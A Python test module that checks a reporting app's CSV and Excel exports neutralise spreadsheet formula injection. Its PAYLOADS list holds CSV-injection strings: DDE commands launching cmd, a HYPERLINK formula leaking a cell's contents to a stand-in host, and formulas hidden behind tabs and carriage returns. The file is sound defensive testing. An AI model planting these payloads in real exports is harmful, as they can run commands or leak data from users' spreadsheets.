"""Issue #18 item 3: no export Pantau writes can carry a formula.

Captions, OPD names, admin names and handles hold CSV-injection payloads (modelled on the OWASP
list) in a real database; every writer is then used through its real path: each CLI command's
``--format csv``, ``registry export``, the briefing workbook (``report --format xlsx``), the
Pengaturan registry download and the Tinjauan Unggahan workbook. Read back, no CSV cell starts
with a dangerous character unless it carries the ``'`` prefix, and no workbook cell is a formula
while every dangerous text carries Excel's quote prefix.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from typer.testing import CliRunner

from cli import app
from core.cells import csv_text, inert_frame, restored_text
from core.settings import load_settings
from core.timeutil import DEFAULT_TZ
from db import repository as repo
from db.engine import make_engine, make_session_factory
from db.models import Account, Opd
from present.post_review import review_xlsx, xlsx_frame
from refresh.aggregates import rebuild_months
from refresh.captions import score_new_captions
from services.post_review import post_review
from testkit.db_support import NewDatabase
from tests.app_support import run_page, serve_from
from tests.clock import FIXED_NOW
from ui.loaders_account import ELEMENT_NAMES, LEVEL_NAMES

# written for these tests, after the shapes OWASP lists: formulas, DDE, links that leak
# neighbouring cells, and the same hidden behind a tab or a carriage return
PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://contoh.invalid/?isi="&A1;"Buka laporan")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
    '=IMPORTXML("http://contoh.invalid/data";"//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "-",
    "@",
)
HARMLESS = 'DDE ("cmd";"/C calc";"!A0")A0'  # no leading sign: plain text, written as it is
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")  # the rule, restated here on purpose
MONTH = "2026-11"  # FIXED_NOW's month: the seeded posts lie in it
runner = CliRunner()


def invoke(*args: str) -> str:
    result = runner.invoke(app, list(args))
    assert result.exit_code == 0, (args, result.output)
    return result.output


def seed(session: Session) -> None:
    """One OPD per payload (its name and admin), an account, and a post captioned with it."""
    for n, payload in enumerate((*PAYLOADS, HARMLESS)):
        opd = repo.upsert_opd(session, f"UJI-{n:02d}", payload, "dinas", admin_name=payload)
        account = repo.upsert_account(session, opd, "instagram", f"uji.akun{n}")
        repo.upsert_posts(
            session,
            [
                repo.PostRow(
                    account.id,
                    f"uji-{n}-{k}",
                    FIXED_NOW - timedelta(days=k, hours=3),
                    caption=payload,
                    likes=3 + k,
                    comments=k % 2,
                )
                for k in range(3)
            ],
        )
        repo.upsert_snapshots(session, [repo.SnapshotRow(account.id, FIXED_NOW, 100 + n)])
    # a handle from a platform may be anything: one that reads as a formula
    hostile = repo.upsert_account(session, opd, "website", "=1+1")
    repo.upsert_posts(session, [repo.PostRow(hostile.id, "uji-web", FIXED_NOW, caption="+1")])
    score_new_captions(session)  # as the collectors' writes do
    rebuild_months(session, DEFAULT_TZ)
    session.commit()


@pytest.fixture
def world(
    new_db_url: NewDatabase, monkeypatch: pytest.MonkeyPatch, fixed_now: datetime
) -> Iterator[str]:
    url = new_db_url("formula")
    monkeypatch.setenv("DATABASE_URL", url)
    invoke("init")
    engine = make_engine(url)
    with make_session_factory(engine)() as session:
        seed(session)
    engine.dispose()
    yield url


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_inert_csv(text: str) -> list[str]:
    """No cell of ``text`` starts with a dangerous character; returns its cells."""
    cells = csv_cells(text)
    live = [cell for cell in cells if cell.startswith(DANGEROUS)]
    assert not live, live
    return cells


def assert_inert_xlsx(data: bytes) -> list[str]:
    """No cell is a formula; every dangerous text is stored as text with the quote prefix."""
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(DANGEROUS):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    return texts


@pytest.mark.parametrize(
    "command",
    [
        ("ranking", "--month", MONTH, "--by", "opd"),
        ("ranking", "--month", MONTH),
        ("dormant", "--include-active"),
        ("review", "--month", MONTH),
        ("status", "--accounts"),
        ("alerts", "--all"),
    ],
    ids=lambda c: "-".join(c[:2]),
)
def test_every_cli_csv_is_inert(world: str, command: tuple[str, ...]) -> None:
    cells = assert_inert_csv(invoke(*command, "--format", "csv"))
    shown = {"'" + p for p in PAYLOADS} & set(cells)
    if command[0] in ("ranking", "review", "dormant"):  # these name the OPDs or captions
        assert shown, cells[:40]


def test_the_registry_export_is_inert_and_round_trips(world: str, tmp_path: Path) -> None:
    exported = invoke("registry", "export")
    cells = assert_inert_csv(exported)
    assert {"'" + p for p in PAYLOADS if p.strip()} <= set(cells)
    assert HARMLESS in cells and "'=1+1" in cells  # the hostile handle too
    engine = make_engine(world)
    with make_session_factory(engine)() as session:  # the import rightly refuses that handle
        session.delete(session.scalars(select(Account).where(Account.handle == "=1+1")).one())
        session.commit()
    exported = invoke("registry", "export")
    file = tmp_path / "registry.csv"
    file.write_text(exported, encoding="utf-8")
    invoke("registry", "import", str(file))
    assert invoke("registry", "export") == exported  # the import undid the prefix
    with make_session_factory(engine)() as session:
        names = set(session.scalars(select(Opd.name)))
    engine.dispose()
    assert {p.strip() for p in PAYLOADS if p.strip()} <= names


def test_the_briefing_workbook_is_inert(world: str, tmp_path: Path) -> None:
    out = tmp_path / "briefing.xlsx"
    invoke("report", "--month", MONTH, "--format", "xlsx", "--out", str(out))
    texts = assert_inert_xlsx(out.read_bytes())
    assert set(PAYLOADS) & set(texts)  # the OPD names reached the workbook


def test_the_post_review_workbook_is_inert(world: str) -> None:
    settings = load_settings()
    with make_session_factory(make_engine(world))() as session:
        review = post_review(session, MONTH, settings)
    frame = xlsx_frame(review, settings.tz, ELEMENT_NAMES, LEVEL_NAMES)
    texts = assert_inert_xlsx(review_xlsx(frame, f"Unggahan {MONTH}"))
    assert set(PAYLOADS) <= set(texts)  # every caption, kept as typed


@pytest.fixture
def served(world: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    yield from serve_from(world, monkeypatch)


def test_the_pengaturan_registry_download_is_inert(
    served: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The page's own download: the bytes its button hands to Streamlit, caught on the way."""
    downloads: dict[str | None, bytes] = {}
    store = MemoryMediaFileStorage.load_and_get_id

    def keep(self: MemoryMediaFileStorage, data: object, *args: object, **kwargs: object) -> str:
        if isinstance(data, bytes):
            downloads[str(kwargs.get("filename", args[-1] if args else None))] = data
        return store(self, data, *args, **kwargs)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keep)
    run_page("pages/pengaturan.py")
    cells = assert_inert_csv(downloads["daftar-opd.csv"].decode("utf-8"))
    assert {"'" + p for p in PAYLOADS if p.strip()} <= set(cells)


def test_only_text_is_neutralised_and_the_import_takes_the_prefix_off() -> None:
    frame = pd.DataFrame(
        {"angka": [-3, 2], "pecahan": [-0.5, None], "teks": ["-3", "\r=1+1"], "=kolom": ["a", "b"]}
    )
    rows = list(csv.reader(io.StringIO(csv_text(frame))))
    assert rows == [
        ["angka", "pecahan", "teks", "'=kolom"],
        ["-3", "-0.5", "'-3", "a"],  # a number stays a number; text that reads as one does not
        ["2", "", "'\r=1+1", "b"],  # the carriage return stays inside its quoted cell
    ]
    assert restored_text("'=1+1") == "=1+1" and restored_text("'Sintang") == "'Sintang"
    assert inert_frame(frame)["angka"].dtype == frame["angka"].dtype
